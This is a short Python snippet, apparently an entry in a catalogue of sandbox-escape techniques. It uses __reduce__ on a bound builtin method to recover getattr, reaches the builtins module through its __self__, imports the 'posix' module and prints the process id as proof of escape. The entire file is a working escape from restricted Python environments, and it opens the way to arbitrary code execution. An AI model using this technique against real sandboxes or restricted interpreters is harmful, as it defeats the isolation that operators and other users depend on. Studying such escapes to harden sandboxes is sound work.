# technique: builtin functions reduce to (getattr, (module, name)) when bound to a module: __reduce__ shows it
# goal: builtins
# source: CPython, meth_reduce()
found = [].append.__reduce__()
if found[0]([], 'append').__self__ == []:
    module = found[0].__self__
    print('ESCAPED pid=%d' % module.__import__('posix').getpid())
